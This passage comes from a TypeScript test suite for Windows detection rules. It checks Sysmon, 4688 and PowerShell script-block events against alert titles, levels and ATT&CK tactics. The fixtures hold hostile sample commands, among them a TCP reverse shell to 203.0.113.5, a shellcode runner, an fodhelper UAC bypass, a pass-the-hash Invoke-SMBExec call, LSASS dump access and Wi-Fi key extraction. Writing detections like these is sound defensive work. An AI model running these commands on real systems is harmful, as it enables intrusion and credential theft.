    const PURGE = 'Kerberos Tickets Purged With Klist';
    expect(hits([proc(1, `${S32}klist.exe`, 'klist tickets')]).get(LIST)).toEqual({ level: 'informational', tactics: ['credential-access'] });
    expect(hits([proc(2, `${S32}klist.exe`, 'klist purge -li 0x3e7')]).get(PURGE)).toEqual({ level: 'low', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(proc(3, `${S32}klist.exe`, 'klist purge'))).not.toContain(LIST);
    expect(titlesOf(proc(4, `${S32}ktpass.exe`, 'ktpass /princ HTTP/web'))).not.toContain(LIST);
    const INJ = 'Process Injection Arguments On A Command Line';
    expect(hits([proc(5, 'C:\\Users\\bob\\Desktop\\loader.exe', 'loader.exe -pid 4312 C:\\Users\\bob\\Desktop\\beacon.bin')]).get(INJ)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(proc(6, 'C:\\Tools\\inj.exe', 'inj.exe 4312 "C:\\Users\\Public\\evil.dll"'))).toContain(INJ);
    expect(titlesOf(proc(7, 'C:\\Tools\\sharp.exe', 'sharp.exe /inject /pid:4312'))).toContain(INJ);
    expect(titlesOf(proc(8, `${S32}taskkill.exe`, 'taskkill /pid 4312 /f'))).not.toContain(INJ);
    expect(titlesOf(proc(9, 'C:\\Program Files\\App\\app.exe', 'app.exe --pid 4312 --log C:\\Logs\\app.log'))).not.toContain(INJ);
    const REN = 'Renamed Windows Binary Identified By Its File Description';
    expect(hits([sysmon1(10, 'C:\\Users\\bob\\AppData\\Local\\Temp\\calc.exe', 'calc.exe /s /u /i:http://x/a.sct scrobj.dll', { Description: 'Microsoft(C) Register Server' })]).get(REN)).toEqual({ level: 'high', tactics: ['stealth'] });
    expect(titlesOf(sysmon1(11, 'C:\\Users\\bob\\svc.exe', 'svc.exe', { Description: 'Microsoft ® Console Based Script Host' }))).toContain(REN);
    expect(titlesOf(sysmon1(12, `${S32}regsvr32.exe`, 'regsvr32 /s x.dll', { Description: 'Microsoft(C) Register Server' }))).not.toContain(REN);
    expect(titlesOf(sysmon1(13, 'C:\\Windows\\SysWOW64\\cmd.exe', 'cmd /c dir', { Description: 'Windows Command Processor' }))).not.toContain(REN);
    const USB = 'Program Started From A Secondary Drive Letter';
    expect(hits([sysmon1(14, 'E:\\invoice.exe', 'E:\\invoice.exe')]).get(USB)).toEqual({ level: 'informational', tactics: ['initial-access', 'lateral-movement'] });
    expect(titlesOf(sysmon1(15, 'D:\\Program Files\\Vendor\\agent.exe', 'agent.exe'))).not.toContain(USB);
    expect(titlesOf(sysmon1(16, 'C:\\Users\\bob\\invoice.exe', 'invoice.exe'))).not.toContain(USB);
    const AUTOIT = 'AutoIt Or AutoHotkey Script Run';
    expect(hits([sysmon1(17, 'C:\\Users\\Public\\Autoit3.exe', 'Autoit3.exe script.a3x')]).get(AUTOIT)).toEqual({ level: 'low', tactics: ['execution'] });
    expect(titlesOf(sysmon1(18, 'C:\\Program Files\\AutoIt3\\AutoIt3.exe', 'AutoIt3.exe /ErrorStdOut'))).not.toContain(AUTOIT);
    const WIFI = 'Wi-Fi Profiles Listed With Their Keys';
    expect(hits([proc(19, `${S32}netsh.exe`, 'netsh wlan show profile name="Office" key=clear')]).get(WIFI)).toEqual({ level: 'medium', tactics: ['credential-access', 'discovery'] });
    expect(titlesOf(proc(20, `${S32}netsh.exe`, 'netsh wlan show profiles'))).not.toContain(WIFI);
  });

  it('Winsock catalog, DNS tunnels, Office templates and Outlook home pages in Sysmon; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const WS = 'Winsock Catalog Changed (Sysmon 12/13)';
    const cat = (t: number, image: string): Ev =>
      win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: 'HKLM\\System\\CurrentControlSet\\Services\\WinSock2\\Parameters\\Protocol_Catalog9\\Catalog_Entries64\\000000000001\\PackedCatalogItem', Details: 'Binary Data' });
    expect(hits([cat(1, `${S32}rundll32.exe`)]).get(WS)?.tactics).toEqual(['persistence', 'privilege-escalation']);
    expect(titlesOf(cat(2, 'C:\\Users\\bob\\lsp.exe'))).toContain(WS);
    expect(titlesOf(cat(3, `${S32}svchost.exe`))).not.toContain(WS);
    const dns = (t: number, image: string, name: string): Ev => win(t, ...SYSMON, 22, { Image: image, QueryName: name, QueryStatus: '0', QueryResults: '-' });
    const LONG = 'DNS Query With A Long Encoded Label (Sysmon 22)';
    const BURST = 'Many Long Encoded DNS Names Looked Up By One Process';
    const tunnel = Array.from({ length: 12 }, (_, i) => dns(10 + i, 'C:\\Users\\bob\\Desktop\\dnscat.exe', `${'a1b2c3d4e5f6'.repeat(3)}${i.toString(16).padStart(4, '0')}.tunnel.example.net`));
    const h = hits(tunnel);
    expect(h.get(LONG)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(h.get(BURST)).toEqual({ level: 'medium', tactics: ['command-and-control', 'exfiltration'] });
    expect(titlesOf(dns(30, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', 'www.example.com'))).toEqual([]);
    expect(titlesOf(dns(31, `${S32}svchost.exe`, '1.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.0.ip6.arpa'))).not.toContain(LONG);
    expect(hits(Array.from({ length: 4 }, (_, i) => dns(40 + i, 'C:\\Tools\\t.exe', `${'ab'.repeat(20)}${i}.example.org`))).has(BURST)).toBe(false);
    const D53 = 'DNS Port Contacted Directly By An Unusual Program (Sysmon 3)';
    const net = (t: number, image: string, ip: string): Ev => win(t, ...SYSMON, 3, { Image: image, Protocol: 'udp', Initiated: 'true', DestinationIp: ip, DestinationPort: '53' });
    expect(hits([net(50, 'C:\\Users\\bob\\Desktop\\dnscat.exe', '203.0.113.7')]).get(D53)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(net(51, `${S32}svchost.exe`, '10.0.0.2'))).not.toContain(D53);
    const AUTORUN = 'Autorun.inf Written To A Drive Root (Sysmon 11)';
    expect(hits([win(55, ...SYSMON, 11, { Image: 'C:\\Users\\bob\\AppData\\Local\\Temp\\w.exe', TargetFilename: 'E:\\autorun.inf' })]).get(AUTORUN)).toEqual({ level: 'medium', tactics: ['initial-access', 'lateral-movement'] });
    expect(titlesOf(win(56, ...SYSMON, 11, { Image: 'C:\\Windows\\explorer.exe', TargetFilename: 'C:\\Users\\bob\\Downloads\\iso\\autorun.inf' }))).not.toContain(AUTORUN);
    const TPL = 'Office Global Template Written By Another Program (Sysmon 11)';
    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
    expect(hits([file(60, `${S32}WindowsPowerShell\\v1.0\\powershell.exe`, 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm')]).get(TPL)).toEqual({ level: 'medium', tactics: ['persistence'] });
    expect(titlesOf(file(61, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm'))).not.toContain(TPL);
    const HOME = 'Outlook Folder Home Page Set (Sysmon 12/13)';
    const reg = (t: number, target: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: `${S32}reg.exe`, TargetObject: target, Details: 'http://203.0.113.9/home.html' });
    expect(hits([reg(70, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\URL')]).get(HOME)).toEqual({ level: 'high', tactics: ['persistence'] });
    expect(titlesOf(reg(71, 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Office\\16.0\\Outlook\\WebView\\Inbox\\Security'))).not.toContain(HOME);
  });

  it('timestomping by script hosts, accessibility ownership, in-memory assemblies and shellcode, security processes killed, clipboard, remoting sessions, TXT lookups, services from user folders; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const TS = 'File Creation Time Changed By A Shell Or Script Host (Sysmon 2)';
    const ftime = (t: number, image: string): Ev => win(t, ...SYSMON, 2, { Image: image, TargetFilename: 'C:\\Users\\Public\\svchost.exe', CreationUtcTime: '2015-07-10 11:00:00.000', PreviousCreationUtcTime: '2026-11-30 10:00:00.000' });
    expect(hits([ftime(1, PS)]).get(TS)).toEqual({ level: 'medium', tactics: ['stealth'] });
    expect(titlesOf(ftime(2, 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'))).not.toContain(TS);
    // Jump lists and editor autosaves: PowerShell rewrites their times, no program or script.
    expect(titlesOf(win(3, ...SYSMON, 2, { Image: PS, TargetFilename: 'C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\Recent\\CustomDestinations\\X.temp', CreationUtcTime: '2020-10-08 06:40:17.988', PreviousCreationUtcTime: '2020-10-22 06:58:00.850' }))).not.toContain(TS);
    const OWN = 'Ownership Or Full Control Of An Accessibility Program Taken';
    expect(hits([proc(3, `${S32}takeown.exe`, 'takeown /f C:\\Windows\\System32\\sethc.exe')]).get(OWN)).toEqual({ level: 'high', tactics: ['persistence', 'privilege-escalation'] });
    expect(titlesOf(proc(4, `${S32}icacls.exe`, 'icacls C:\\Data /grant bob:F'))).not.toContain(OWN);
    const sb = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
    const ASM = '.NET Assembly Loaded From Bytes In A Script Block (4104)';
    expect(hits([sb(5, '$a = [System.Reflection.Assembly]::Load([Convert]::FromBase64String($b))')]).get(ASM)).toEqual({ level: 'medium', tactics: ['execution', 'stealth'] });
    expect(titlesOf(sb(6, '[System.Reflection.Assembly]::LoadWithPartialName("System.Windows.Forms")'))).not.toContain(ASM);
    const SC = 'Shellcode Runner In A Script Block (4104)';
    expect(hits([sb(7, '$m = $k::VirtualAlloc(0, $sc.Length, 0x3000, 0x40); [Runtime.InteropServices.Marshal]::Copy($sc, 0, $m, $sc.Length); $k::CreateThread(0, 0, $m, 0, 0, 0)')]).get(SC)).toEqual({ level: 'high', tactics: ['execution', 'privilege-escalation', 'stealth'] });
    expect(titlesOf(sb(8, 'Get-Help VirtualAlloc'))).not.toContain(SC);
    const KILL = 'Security Product Process Killed From The Command Line';
    expect(hits([proc(9, `${S32}taskkill.exe`, 'taskkill /f /im MsMpEng.exe')]).get(KILL)).toEqual({ level: 'high', tactics: ['defense-impairment'] });
    expect(titlesOf(proc(10, `${S32}taskkill.exe`, 'taskkill /f /im notepad.exe'))).not.toContain(KILL);
    const CLIP = 'Clipboard Read In A Script Block (4104)';
    expect(hits([sb(11, 'while ($true) { $c = Get-Clipboard; Add-Content C:\\Users\\Public\\c.txt $c; Start-Sleep 5 }')]).get(CLIP)).toEqual({ level: 'low', tactics: ['collection'] });
    expect(titlesOf(sb(12, 'Set-Clipboard -Value "done"'))).not.toContain(CLIP);
    const SESS = 'PowerShell Remoting Session Opened To Another Host (4104)';
    expect(hits([sb(13, 'Enter-PSSession -ComputerName SRV02 -Credential $cred')]).get(SESS)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(sb(14, 'Get-PSSession | Remove-PSSession'))).not.toContain(SESS);
    const TXT = 'TXT Record Looked Up With Nslookup';
    expect(hits([proc(15, `${S32}nslookup.exe`, 'nslookup -q=txt stage.example.net')]).get(TXT)).toEqual({ level: 'low', tactics: ['command-and-control'] });
    expect(titlesOf(proc(16, `${S32}nslookup.exe`, 'nslookup www.example.com'))).not.toContain(TXT);
    const SVC = 'Service Program Started From A User-Writable Folder';
    const svc = (t: number, image: string): Ev => sysmon1(t, image, image, { ParentImage: `${S32}services.exe`, User: 'NT AUTHORITY\\SYSTEM' });
    expect(hits([svc(17, 'C:\\Users\\Public\\updater.exe')]).get(SVC)).toEqual({ level: 'medium', tactics: ['execution', 'persistence', 'privilege-escalation'] });
    expect(titlesOf(svc(18, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.2\\MsMpEng.exe'))).not.toContain(SVC);
    expect(titlesOf(svc(19, `${S32}svchost.exe`))).not.toContain(SVC);
  });

  it('dual-use Windows tools started where no command line is logged (4688 with command-line auditing off); with a command line they are left to the argument rules', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const bare = (t: number, image: string): Ev => sec(t, 4688, { SubjectUserName: 'bob', NewProcessName: image, ParentProcessName: `${S32}cmd.exe`, TokenElevationType: '%%1936' });
    const REC = 'Shadow Copy Or Backup Tool Started Without A Logged Command Line';
    expect(hits([bare(1, `${S32}vssadmin.exe`)]).get(REC)).toEqual({ level: 'informational', tactics: ['credential-access', 'impact'] });
    expect(titlesOf(proc(2, `${S32}vssadmin.exe`, ''))).toContain(REC);
    expect(titlesOf(proc(3, `${S32}vssadmin.exe`, 'vssadmin list shadows'))).not.toContain(REC);
    expect(hits([bare(4, `${S32}net.exe`)]).get('Account Or Host Discovery Tool Started Without A Logged Command Line')?.tactics).toEqual(['discovery']);
    // Each tool carries the tactics ATT&CK gives the techniques it is used for, and no other.
    const tacticsOf = (image: string, title: string): readonly string[] | undefined => hits([bare(5, `${S32}${image}`)]).get(title)?.tactics;
    expect(tacticsOf('wevtutil.exe', 'Event Log Or File System Journal Tool Started Without A Logged Command Line')).toEqual(['stealth', 'defense-impairment']);
    expect(tacticsOf('netsh.exe', 'Network Shell Started Without A Logged Command Line')).toEqual(['persistence', 'privilege-escalation', 'defense-impairment', 'command-and-control']);
    expect(tacticsOf('bcdedit.exe', 'Boot Configuration Tool Started Without A Logged Command Line')).toEqual(['defense-impairment', 'impact']);
    expect(tacticsOf('mshta.exe', 'HTML Application Or XSL Script Host Started Without A Logged Command Line')).toEqual(['execution', 'stealth']);
    expect(tacticsOf('mshta.exe', 'Signed Proxy Binary Started Without A Logged Command Line')).toBeUndefined();
    expect(tacticsOf('MSBuild.exe', 'Signed Proxy Binary Started Without A Logged Command Line')).toEqual(['stealth']);
    expect(tacticsOf('certutil.exe', 'Certificate Utility Started Without A Logged Command Line')).toEqual(['stealth', 'command-and-control']);
    expect(tacticsOf('bitsadmin.exe', 'BITS Administration Tool Started Without A Logged Command Line')).toEqual(['persistence', 'stealth', 'command-and-control']);
    expect(hits([bare(7, `${S32}schtasks.exe`)]).get('Task, Service Or WMI Command Line Tool Started Without A Logged Command Line')?.tactics).toEqual(['execution', 'persistence', 'privilege-escalation']);
    expect(hits([bare(8, `${S32}tscon.exe`)]).get('Remote Desktop Session Tool Started Without A Logged Command Line')?.tactics).toEqual(['lateral-movement']);
    expect(titlesOf(proc(6, `${S32}mshta.exe`, 'mshta.exe C:\\Users\\bob\\a.hta'))).not.toContain('HTML Application Or XSL Script Host Started Without A Logged Command Line');
    expect(titlesOf(bare(9, `${S32}notepad.exe`))).toEqual([]);
  });

  it('script blocks: pass-the-hash execution functions, TCP reverse shells and port sweeps, Compress-Archive, UAC bypass handlers; near misses are not', () => {
    const sb = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
    const PTH = 'Pass-The-Hash Remote Execution Functions In A Script Block (4104)';
    expect(hits([sb(1, 'Invoke-SMBExec -Target 10.0.0.5 -Username admin -Hash 31d6cfe0d16ae931b73c59d7e0c089c0 -Command "cmd"')]).get(PTH)).toEqual({ level: 'high', tactics: ['stealth', 'lateral-movement'] });
    expect(titlesOf(sb(2, 'Invoke-Command -ComputerName SRV02 -ScriptBlock { hostname }'))).not.toContain(PTH);
    const REV = 'TCP Reverse Shell In A Script Block (4104)';
    expect(hits([sb(3, '$c = New-Object System.Net.Sockets.TCPClient("203.0.113.5",443); $s = $c.GetStream(); while (($i = $s.Read($b, 0, $b.Length)) -ne 0) { $o = (iex $d 2>&1 | Out-String) }')]).get(REV)).toEqual({ level: 'high', tactics: ['execution', 'command-and-control'] });
    expect(titlesOf(sb(4, '$c = New-Object System.Net.Sockets.TcpClient; $c.Connect("db01", 1433); $c.Close()'))).not.toContain(REV);
    const SCAN = 'TCP Port Or Host Sweep In A Script Block (4104)';
    expect(hits([sb(5, '1..1024 | % { $t = New-Object Net.Sockets.TcpClient; $t.Connect("10.0.0.5", $_) }')]).get(SCAN)).toEqual({ level: 'medium', tactics: ['discovery'] });
    expect(titlesOf(sb(6, 'Test-NetConnection -ComputerName db01 -Port 1433'))).not.toContain(SCAN);
    expect(hits([sb(7, 'Compress-Archive -Path C:\\Users\\bob\\Documents\\* -DestinationPath C:\\Users\\Public\\d.zip')]).get('Files Archived With Compress-Archive In A Script Block (4104)')).toEqual({ level: 'informational', tactics: ['collection'] });
    const UAC = 'UAC Bypass Handler Written In A Script Block (4104)';
    expect(hits([sb(8, 'New-Item "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Force; Set-ItemProperty "HKCU:\\Software\\Classes\\ms-settings\\Shell\\Open\\command" -Name DelegateExecute -Value ""; Start-Process fodhelper.exe')]).get(UAC)).toEqual({ level: 'high', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(sb(9, 'Get-ItemProperty "HKCU:\\Software\\Classes\\.txt"'))).not.toContain(UAC);
  });

  it('image loads of dump and vault libraries by scripts and user-folder programs, the .NET runtime in native processes, inbound RDP; near misses are not', () => {
    const S32 = 'C:\\Windows\\System32\\';
    const PS = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
    const load = (t: number, image: string, dll: string): Ev => win(t, ...SYSMON, 7, { Image: image, ImageLoaded: dll, Signed: 'true' });
    const DUMP = 'Memory Dump Library Loaded By A Script Host Or A Program In A User Folder (Sysmon 7)';
    expect(hits([load(1, PS, `${S32}dbgcore.dll`)]).get(DUMP)).toEqual({ level: 'medium', tactics: ['credential-access'] });
    expect(titlesOf(load(2, 'C:\\Users\\bob\\Downloads\\d.exe', `${S32}dbghelp.dll`))).toContain(DUMP);
    expect(titlesOf(load(3, 'C:\\Program Files\\Vendor\\app.exe', `${S32}dbghelp.dll`))).not.toContain(DUMP);
    const VAULT = 'Credential Vault Library Loaded By A Script Host (Sysmon 7)';
    expect(hits([load(4, PS, `${S32}vaultcli.dll`)]).get(VAULT)).toEqual({ level: 'low', tactics: ['credential-access'] });
    expect(titlesOf(load(5, `${S32}svchost.exe`, `${S32}vaultcli.dll`))).not.toContain(VAULT);
    const CLR = '.NET Runtime Loaded Into A Native Windows Process (Sysmon 7)';
    expect(hits([load(6, `${S32}notepad.exe`, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll')]).get(CLR)).toEqual({ level: 'medium', tactics: ['privilege-escalation', 'stealth'] });
    expect(titlesOf(load(7, PS, 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\clr.dll'))).not.toContain(CLR);
    const RDP = 'Inbound Remote Desktop Connection (Sysmon 3)';
    const net = (t: number, src: string, initiated: string): Ev => win(t, ...SYSMON, 3, { Image: `${S32}svchost.exe`, Initiated: initiated, SourceIp: src, DestinationIp: '10.0.0.5', DestinationPort: '3389', Protocol: 'tcp' });
    expect(hits([net(8, '10.0.0.9', 'false')]).get(RDP)).toEqual({ level: 'low', tactics: ['lateral-movement'] });
    expect(titlesOf(net(9, '10.0.0.9', 'true'))).not.toContain(RDP);
  });

  /** The one hit of a rule title on an event (level and tactics), or undefined. */
  const hitOf = (title: string, e: Ev): { level: string; tactics: readonly string[] } | undefined => hits([e]).get(title);
  const S32 = 'C:\\Windows\\System32\\';
  const PSH = `${S32}WindowsPowerShell\\v1.0\\powershell.exe`;
  const block = (t: number, text: string): Ev => win(t, 'Microsoft-Windows-PowerShell/Operational', 'Microsoft-Windows-PowerShell', 4104, { ScriptBlockText: text, ScriptBlockId: `${t}`, Path: '' });
  const expectHit = (title: string, e: Ev, level: string, tactic: string): void => {
    const h = hitOf(title, e);
    expect(h?.level, title).toBe(level);
    expect(h?.tactics, title).toContain(tactic);
  };

  it('discovery: security products, installed software, language, virtual machine checks, discovery cmdlets, dsquery/csvde, wmic inventory, more built-in commands; near misses are not', () => {
    const AV = 'Security Products Or File System Filters Listed';
    expectHit(AV, sysmon1(1, `${S32}wbem\\WMIC.exe`, 'wmic /namespace:\\\\root\\SecurityCenter2 path AntiVirusProduct get displayName'), 'low', 'discovery');
    expectHit(AV, sysmon1(2, `${S32}fltMC.exe`, 'fltmc.exe instances'), 'low', 'discovery');
    expect(titlesOf(sysmon1(3, `${S32}fltMC.exe`, 'fltmc.exe load mydrv'))).not.toContain(AV);
    expectHit('Security Products Listed In A Script Block (4104)', block(4, 'Get-CimInstance -Namespace root/SecurityCenter2 -ClassName AntivirusProduct'), 'low', 'discovery');
    const SW = 'Installed Software Listed From The Command Line';
    expectHit(SW, proc(5, `${S32}reg.exe`, 'reg query HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall /s'), 'informational', 'discovery');
    expect(titlesOf(proc(6, `${S32}reg.exe`, 'reg add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\App /v DisplayName /d App'))).not.toContain(SW);
    const SWB = 'Installed Software Listed In A Script Block (4104)';
    expectHit(SWB, block(7, 'Get-ItemProperty HKLM:\\Software\\Wow6432Node\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\* | Select DisplayName'), 'informational', 'discovery');
    expect(titlesOf(block(8, 'Remove-Item HKLM:\\Software\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\App'))).not.toContain(SWB);
    const LANG = 'System Language Or Keyboard Layout Queried';
    expectHit(LANG, proc(9, `${S32}reg.exe`, 'reg query "HKCU\\Control Panel\\International"'), 'informational', 'discovery');
    expect(titlesOf(proc(10, `${S32}reg.exe`, 'reg query "HKCU\\Control Panel\\Desktop"'))).not.toContain(LANG);
    expectHit('System Language Or Keyboard Layout Queried In A Script Block (4104)', block(11, 'if ((Get-WinSystemLocale).Name -eq "ru-RU") { exit }'), 'informational', 'discovery');
    const VM = 'Hardware Maker, Model Or BIOS Queried (Virtual Machine Checks)';
    expectHit(VM, proc(12, `${S32}wbem\\WMIC.exe`, 'wmic bios get serialnumber'), 'low', 'discovery');
    expect(hitOf(VM, proc(13, `${S32}reg.exe`, 'reg query HKLM\\SYSTEM\\CurrentControlSet\\Services\\Disk\\Enum'))?.tactics).toContain('stealth');
    expect(titlesOf(proc(14, `${S32}wbem\\WMIC.exe`, 'wmic bios'))).not.toContain(VM);
    const VMB = 'Hardware Maker, Model Or BIOS Queried In A Script Block (4104)';
    expectHit(VMB, block(15, 'Get-WmiObject Win32_ComputerSystem | Select Manufacturer, Model'), 'low', 'discovery');
    expect(titlesOf(block(16, 'Get-WmiObject Win32_ComputerSystem | Select Name, Domain'))).not.toContain(VMB);
    const CMDLETS = 'Host, Network Or Account Discovery Cmdlets In A Script Block (4104)';
    expectHit(CMDLETS, block(17, 'Get-NetTCPConnection -State Established | Select RemoteAddress'), 'informational', 'discovery');
    expect(titlesOf(block(18, 'function Get-NetTCPConnection { [CmdletBinding()] param() }'))).not.toContain(CMDLETS);
    const DSQ = 'Directory Objects Listed Or Exported With dsquery, csvde Or ldifde';
    expectHit(DSQ, proc(19, `${S32}dsquery.exe`, 'dsquery user -limit 0'), 'low', 'discovery');
    expectHit(DSQ, proc(20, `${S32}ldifde.exe`, 'ldifde -f C:\\Users\\Public\\ad.ldf -p subtree'), 'low', 'discovery');
    expect(titlesOf(proc(21, `${S32}ldifde.exe`, 'ldifde -i -f import.ldf'))).not.toContain(DSQ);
    const WMIC = 'Host Inventory Read With wmic';
    expectHit(WMIC, proc(22, `${S32}wbem\\WMIC.exe`, 'wmic qfe get HotFixID'), 'informational', 'discovery');
    expect(titlesOf(proc(23, `${S32}wbem\\WMIC.exe`, 'wmic process call create "notepad.exe"'))).not.toContain(WMIC);
    const CMD = 'Built-in Discovery Command';
    expectHit(CMD, proc(24, `${S32}fsutil.exe`, 'fsutil fsinfo drives'), 'informational', 'discovery');
    expectHit(CMD, proc(25, `${S32}w32tm.exe`, 'w32tm /tz'), 'informational', 'discovery');
    expectHit(CMD, proc(26, `${S32}net.exe`, 'net time \\\\SRV02'), 'informational', 'discovery');
    expect(titlesOf(proc(27, `${S32}fsutil.exe`, 'fsutil file createnew a.bin 100'))).not.toContain(CMD);
  });

  it('privilege escalation and credential access: token APIs, runas, SYSTEM shells from user folders, PsExec -s, services in user folders, LSASS read by scripts, dump files; near misses are not', () => {
    const TOK = 'Token Impersonation Or Duplication API In A Script Block (4104)';
    expectHit(TOK, block(1, '[Advapi32]::DuplicateTokenEx($h, 0x2000000, [IntPtr]::Zero, 2, 1, [ref]$dup); [Advapi32]::ImpersonateLoggedOnUser($dup)'), 'medium', 'privilege-escalation');
    expect(titlesOf(block(2, '$token = Get-AzAccessToken; Invoke-RestMethod -Headers @{Authorization = "Bearer $($token.Token)"}'))).not.toContain(TOK);
    const RUNAS = 'Program Started As Another User With runas';
    expectHit(RUNAS, sysmon1(3, `${S32}runas.exe`, 'runas /user:CORP\\admin /savecred cmd.exe'), 'low', 'privilege-escalation');
    expect(titlesOf(sysmon1(4, `${S32}runas.exe`, 'runas /?'))).not.toContain(RUNAS);
    const SYS = 'Shell Running As SYSTEM Started By A Program In A User-Writable Folder';
    expectHit(SYS, sysmon1(5, `${S32}cmd.exe`, 'cmd.exe /c whoami', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ParentImage: 'C:\\Users\\Public\\svc.exe' }), 'medium', 'privilege-escalation');
    expectHit(SYS, proc(6, `${S32}cmd.exe`, 'cmd.exe', { MandatoryLabel: 'S-1-16-16384', ParentProcessName: 'C:\\ProgramData\\upd\\upd.exe' }), 'medium', 'privilege-escalation');
    expect(titlesOf(sysmon1(7, `${S32}cmd.exe`, 'cmd.exe /c whoami', { User: 'NT AUTHORITY\\SYSTEM', IntegrityLevel: 'System', ParentImage: 'C:\\Program Files\\Vendor\\agent.exe' }))).not.toContain(SYS);
    expect(titlesOf(sysmon1(8, `${S32}cmd.exe`, 'cmd.exe /c whoami', { IntegrityLevel: 'Medium', ParentImage: 'C:\\Users\\Public\\svc.exe' }))).not.toContain(SYS);
    const PSX = 'Program Started As SYSTEM Through PsExec Or PAExec (-s)';
    expectHit(PSX, sysmon1(9, 'C:\\Tools\\PsExec64.exe', 'PsExec64.exe -accepteula -s -i cmd.exe'), 'medium', 'privilege-escalation');
    expect(titlesOf(sysmon1(10, 'C:\\Tools\\PsExec64.exe', 'PsExec64.exe \\\\SRV02 -u admin cmd.exe'))).not.toContain(PSX);
    const SVC = 'Service Registered With Its Program In A User-Writable Folder (Sysmon 13)';
    const reg = (t: number, image: string, key: string, details: string): Ev => win(t, ...SYSMON, 13, { EventType: 'SetValue', Image: image, TargetObject: key, Details: details });
    expectHit(SVC, reg(11, `${S32}services.exe`, 'HKLM\\System\\CurrentControlSet\\Services\\upd\\ImagePath', 'C:\\Users\\Public\\svc.exe'), 'medium', 'privilege-escalation');
    expect(titlesOf(reg(12, `${S32}services.exe`, 'HKLM\\System\\CurrentControlSet\\Services\\upd\\ImagePath', 'C:\\Program Files\\Vendor\\svc.exe'))).not.toContain(SVC);
    const LSA = 'LSASS Memory Read By A Script Host Or Windows Proxy Program (Sysmon 10)';
    const NET_FRAMES = 'C:\\Windows\\SYSTEM32\\ntdll.dll+a5ec4|C:\\Windows\\System32\\KERNELBASE.dll+221bd|C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\System\\a.ni.dll+8e3f1';
    const open = (t: number, src: string, access: string, trace = NET_FRAMES): Ev => win(t, ...SYSMON, 10, { SourceImage: src, TargetImage: `${S32}lsass.exe`, GrantedAccess: access, CallTrace: trace });
    expectHit(LSA, open(13, `${S32}rundll32.exe`, '0x1410', 'C:\\Windows\\SYSTEM32\\ntdll.dll+9d234|C:\\Windows\\System32\\dbgcore.DLL+6dd8|C:\\Windows\\System32\\comsvcs.dll+2b3c'), 'high', 'credential-access');
    expectHit(LSA, open(14, PSH, '0x1010', `${NET_FRAMES}|C:\\Windows\\System32\\dbghelp.dll+1f0a2`), 'high', 'credential-access');
    expectHit(LSA, open(20, PSH, '0x1010'), 'high', 'credential-access');
    expect(titlesOf(open(15, PSH, '0x1410'))).not.toContain(LSA);
    expect(titlesOf(open(16, `${S32}rundll32.exe`, '0x1000'))).not.toContain(LSA);
    expect(titlesOf(open(17, `${S32}svchost.exe`, '0x1010'))).not.toContain(LSA);
    const DMP = 'Memory Dump File Written By A Script Host, Proxy Program Or User-Folder Program (Sysmon 11)';
    const file = (t: number, image: string, target: string): Ev => win(t, ...SYSMON, 11, { Image: image, TargetFilename: target });
    expectHit(DMP, file(18, `${S32}rundll32.exe`, 'C:\\Windows\\Temp\\debug.dmp'), 'medium', 'credential-access');
    expect(titlesOf(file(19, `${S32}WerFault.exe`, 'C:\\ProgramData\\Microsoft\\Windows\\WER\\Temp\\app.dmp'))).not.toContain(DMP);
  });

  it('collection and exfiltration: microphone, mailbox files and Outlook COM, staged documents, cabinets, uploads, scp, archives to shares, DNS labels, ICMP buffers, paste sites, FTP and mail ports; near misses are not', () => {
    const MIC = 'Microphone Recording In A Script Block (4104)';
    expectHit(MIC, block(1, 'mciSendString("open new Type waveaudio Alias recsound", $null, 0, 0); mciSendString("record recsound", $null, 0, 0)'), 'medium', 'collection');
    expect(titlesOf(block(2, 'mciSendString("play song.mp3", $null, 0, 0)'))).not.toContain(MIC);
    const PST = 'Outlook Data File Copied Or Archived From The Command Line';
